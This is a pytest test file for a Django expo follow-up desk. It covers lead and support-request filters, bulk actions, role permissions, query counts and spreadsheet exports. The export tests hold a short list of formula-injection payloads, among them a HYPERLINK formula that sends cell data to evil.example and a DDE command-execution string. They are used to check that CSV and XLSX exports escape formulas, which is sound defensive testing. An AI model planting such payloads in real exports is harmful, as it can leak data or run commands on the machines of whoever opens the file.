"""The staff follow-up desk: leads and support requests by cluster, province, stage, value and age, filtered from
the URL, acted on in bulk, exported without formulas, and read in as many queries for many leads as for one."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from expo import roles
from expo.models import OutboundEmail
from matchmaking.models import Lead, LeadEvent
from support.models import SupportNote, SupportRequest
from tests.conftest import staff_groups_ensure, staff_member
from tests.factories import ExhibitorFactory, ExpoFactory, register_visitor
from tests.support.conftest import LeadFactory, SupportRequestFactory

pytestmark = pytest.mark.django_db

NOW = timezone.now()


def _ago(days: int) -> datetime.datetime:
    return NOW - datetime.timedelta(days=days)


@pytest.fixture
def matchmaking_desk(db):
    staff_groups_ensure()
    return staff_member(roles.MATCHMAKING_DESK, email="b2b@smeda.example.pk")


@pytest.fixture
def leads(expo, exhibitor, other_exhibitor):
    visitor = register_visitor(expo, full_name="Ali Raza", organisation="Raza Traders")
    return {
        "new_old": LeadFactory(
            exhibitor=exhibitor, registration=visitor, value_amount=Decimal("500000"), created_at=_ago(40)
        ),
        "talks_recent": LeadFactory(
            exhibitor=exhibitor,
            status=Lead.Status.TALKS,
            value_amount=Decimal("2000"),
            value_currency="USD",
            created_at=_ago(5),
        ),
        "won_older": LeadFactory(
            exhibitor=other_exhibitor,
            status=Lead.Status.WON_ORDER,
            value_amount=Decimal("1000000"),
            created_at=_ago(100),
            closed_at=_ago(20),
        ),
        "lost": LeadFactory(exhibitor=other_exhibitor, status=Lead.Status.LOST, created_at=_ago(10), closed_at=_ago(2)),
    }


def _listed(client, url_name, **filters):
    response = client.get(reverse(url_name), filters)
    assert response.status_code == 200
    return sorted(row.pk for row in response.context["page"])


def test_leads_filtered_by_cluster_province_stage_value_and_age(client, officer, leads, exhibitor):
    ids = {name: lead.pk for name, lead in leads.items()}
    client.force_login(officer)
    assert _listed(client, "followup_leads") == sorted(ids.values())
    assert _listed(client, "followup_leads", cluster=exhibitor.cluster_id) == sorted(
        [ids["new_old"], ids["talks_recent"]]
    )
    assert _listed(client, "followup_leads", province="sindh") == sorted([ids["won_older"], ids["lost"]])
    assert _listed(client, "followup_leads", stage="talks") == [ids["talks_recent"]]
    assert _listed(client, "followup_leads", min_value="100000") == sorted([ids["new_old"], ids["won_older"]])
    assert _listed(client, "followup_leads", older_than_days="30") == sorted([ids["new_old"], ids["won_older"]])
    assert _listed(client, "followup_leads", newer_than_days="7") == [ids["talks_recent"]]
    assert _listed(client, "followup_leads", cluster=exhibitor.cluster_id, older_than_days="30") == [ids["new_old"]]


def test_leads_page_shows_the_person_and_a_summary_by_stage(client, officer, leads):
    client.force_login(officer)
    response = client.get(reverse("followup_leads"), {"province": "punjab"})
    assert response.context["summary"] == [
        {"stage": "New", "count": 1, "PKR": Decimal("500000"), "USD": Decimal(0)},
        {"stage": "In talks", "count": 1, "PKR": Decimal(0), "USD": Decimal("2000")},
    ]
    assert "Ali Raza, Raza Traders" in response.content.decode()


def test_a_bad_filter_is_shown_next_to_its_field_and_lists_nothing(client, officer, leads):
    client.force_login(officer)
    response = client.get(reverse("followup_leads"), {"min_value": "-5", "older_than_days": "many"})
    assert set(response.context["form"].errors) == {"min_value", "older_than_days"}
    assert 'id="error_1_id_min_value"' in response.content.decode()
    assert list(response.context["page"]) == []


def test_requests_filtered_by_cluster_province_stage_and_age(client, officer, exhibitor, other_exhibitor):
    punjab_new = SupportRequestFactory(exhibitor=exhibitor, created_at=_ago(3))
    punjab_closed = SupportRequestFactory(exhibitor=exhibitor, status=SupportRequest.Status.CLOSED, created_at=_ago(60))
    sindh = SupportRequestFactory(exhibitor=other_exhibitor, created_at=_ago(45))
    SupportRequestFactory(exhibitor=ExhibitorFactory(nomination__expo=ExpoFactory(is_current=False)))
    client.force_login(officer)
    assert _listed(client, "followup_requests") == sorted([punjab_new.pk, punjab_closed.pk, sindh.pk])
    assert _listed(client, "followup_requests", cluster=exhibitor.enterprise.cluster_id) == sorted(
        [punjab_new.pk, punjab_closed.pk]
    )
    assert _listed(client, "followup_requests", province="sindh") == [sindh.pk]
    assert _listed(client, "followup_requests", stage="closed") == [punjab_closed.pk]
    assert _listed(client, "followup_requests", older_than_days="30") == sorted([punjab_closed.pk, sindh.pk])


def test_bulk_mark_lost_changes_only_open_leads_and_keeps_the_filters(client, officer, leads):
    client.force_login(officer)
    response = client.post(
        reverse("followup_leads_bulk") + "?stage=new&older_than_days=30",
        {
            "leads": [leads["new_old"].pk, leads["won_older"].pk],
            "action": "mark_lost",
            "note": "No answer after three calls.",
        },
    )
    assert response["Location"] == reverse("followup_leads") + "?stage=new&older_than_days=30"
    for lead in leads.values():
        lead.refresh_from_db()
    assert leads["new_old"].status == Lead.Status.LOST
    assert leads["new_old"].closed_at is not None
    assert leads["won_older"].status == Lead.Status.WON_ORDER  # closed leads keep their status
    event = LeadEvent.objects.get()
    assert (event.lead, event.side, event.kind, event.status_from, event.status_to, event.note, event.by) == (
        leads["new_old"],
        "staff",
        "status",
        "new",
        "lost",
        "No answer after three calls.",
        officer,
    )


def test_bulk_note_is_added_to_each_ticked_lead(client, officer, leads):
    client.force_login(officer)
    ticked = [leads["new_old"].pk, leads["lost"].pk]
    client.post(reverse("followup_leads_bulk"), {"leads": ticked, "action": "add_note", "note": "Called at 10:00."})
    assert sorted(
        LeadEvent.objects.filter(kind="note", note="Called at 10:00.").values_list("lead", flat=True)
    ) == sorted(ticked)
    assert Lead.objects.filter(status=Lead.Status.LOST).count() == 1


@pytest.mark.parametrize(
    ("data", "field", "message"),
    [
        ({"action": "mark_lost", "note": "x"}, "leads", "Tick at least one lead."),
        ({"action": "mark_lost", "note": ""}, "note", "This field is required."),
        (
            {"action": "delete", "note": "x"},
            "action",
            "Select a valid choice. delete is not one of the available choices.",
        ),
    ],
)
def test_bulk_lead_action_refused_changes_nothing(client, officer, leads, data, field, message):
    client.force_login(officer)
    if field != "leads":
        data = {**data, "leads": [leads["new_old"].pk]}
    response = client.post(reverse("followup_leads_bulk"), data)
    assert response.status_code == 200
    assert response.context["bulk_form"].errors[field] == [message]
    assert message in response.content.decode()
    assert not LeadEvent.objects.exists()
    assert Lead.objects.get(pk=leads["new_old"].pk).status == Lead.Status.NEW


def test_bulk_refuses_a_lead_of_another_edition(client, officer, leads):
    elsewhere = LeadFactory(exhibitor=ExhibitorFactory(nomination__expo=ExpoFactory(is_current=False)))
    client.force_login(officer)
    response = client.post(
        reverse("followup_leads_bulk"), {"leads": [elsewhere.pk], "action": "mark_lost", "note": "x"}
    )
    assert response.status_code == 200
    elsewhere.refresh_from_db()
    assert elsewhere.status == Lead.Status.NEW


def test_bulk_assign_and_close_requests(
    client, officer, exhibitor, exhibitor_member, teams, django_capture_on_commit_callbacks
):
    first, second = SupportRequestFactory.create_batch(2, exhibitor=exhibitor)
    client.force_login(officer)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("followup_requests_bulk"),
            {"requests": [first.pk, second.pk], "action": "assign", "owner": officer.pk, "team": teams["finance"].pk},
        )
    assert set(SupportRequest.objects.values_list("owner", "team", "status")) == {
        (officer.pk, teams["finance"].pk, "assigned")
    }
    assert OutboundEmail.objects.count() == 2
    response = client.post(reverse("followup_requests_bulk"), {"requests": [first.pk], "action": "close", "note": ""})
    assert response.context["bulk_form"].errors == {"note": ["Say why the requests are closed."]}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("followup_requests_bulk"),
            {"requests": [first.pk], "action": "close", "note": "Handled at the regional office."},
        )
    first.refresh_from_db()
    assert first.status == SupportRequest.Status.CLOSED
    assert first.closed_at is not None
    assert SupportNote.objects.filter(
        request=first, status_to="closed", text="Handled at the regional office."
    ).exists()
    assert OutboundEmail.objects.filter(to=exhibitor_member.email).count() == 3


def test_matchmaking_desk_follows_leads_but_may_not_act_on_requests(client, matchmaking_desk, exhibitor, leads):
    support_request = SupportRequestFactory(exhibitor=exhibitor)
    client.force_login(matchmaking_desk)
    assert client.get(reverse("followup_leads")).status_code == 200
    page = client.get(reverse("followup_requests"))
    assert page.status_code == 200
    assert 'name="requests"' not in page.content.decode()
    response = client.post(
        reverse("followup_requests_bulk"), {"requests": [support_request.pk], "action": "close", "note": "x"}
    )
    assert response.status_code == 404
    support_request.refresh_from_db()
    assert support_request.status == SupportRequest.Status.NEW
    assert client.get(reverse("support_queue")).status_code == 404


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _no_formula(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in archive.namelist())


def test_lead_exports_escape_formulas(client, officer, expo, exhibitor):
    visitor = register_visitor(expo, full_name=HOSTILE[1], organisation=HOSTILE[2])
    LeadFactory(exhibitor=exhibitor, registration=visitor, interest_product=HOSTILE[0], quantity=HOSTILE[3])
    LeadFactory(exhibitor=exhibitor, interest_product=HOSTILE[3])
    client.force_login(officer)

    response = client.get(reverse("followup_leads_export", args=["csv"]), {"province": "punjab"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _csv(response.content)
    assert rows[0][:3] == ["Lead", "Exhibitor", "Cluster"]
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert "'" + f"{HOSTILE[1]}, {HOSTILE[2]}" in cells
    assert "'" + HOSTILE[3] in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    response = client.get(reverse("followup_leads_export", args=["xlsx"]))
    assert _no_formula(response.content)
    sheet = load_workbook(io.BytesIO(response.content))["leads"]
    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert values[HOSTILE[0]] == "s"
    assert values[HOSTILE[3]] == "s"


def test_request_exports_escape_formulas(client, officer, exhibitor):
    SupportRequestFactory(exhibitor=exhibitor, description=HOSTILE[0], outcome=HOSTILE[3])
    client.force_login(officer)
    rows = _csv(client.get(reverse("followup_requests_export", args=["csv"])).content)
    assert rows[1][13:15] == ["'" + HOSTILE[0], "'" + HOSTILE[3]]
    content = client.get(reverse("followup_requests_export", args=["xlsx"])).content
    assert _no_formula(content)
    assert client.get(reverse("followup_requests_export", args=["pdf"])).status_code == 404


def _count_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured.captured_queries)


def test_desk_pages_make_as_many_queries_for_many_leads_and_requests_as_for_one(
    client, officer, expo, exhibitor, other_exhibitor
):
    LeadFactory(exhibitor=exhibitor, registration=register_visitor(expo), value_amount=Decimal(10))
    SupportRequestFactory(exhibitor=exhibitor)
    client.force_login(officer)
    leads_url, requests_url = reverse("followup_leads"), reverse("followup_requests")
    client.get(leads_url)
    one = (_count_queries(client, leads_url), _count_queries(client, requests_url))
    for number in range(6):
        LeadFactory(
            exhibitor=other_exhibitor if number % 2 else exhibitor,
            registration=register_visitor(expo) if number % 3 else None,
            status=Lead.Status.TALKS,
            value_amount=Decimal(100 * number),
        )
        SupportRequestFactory(exhibitor=ExhibitorFactory(nomination__expo=expo), owner=officer)
    many = (_count_queries(client, leads_url), _count_queries(client, requests_url))
    assert many == one
    assert len(client.get(leads_url).context["page"]) == 7
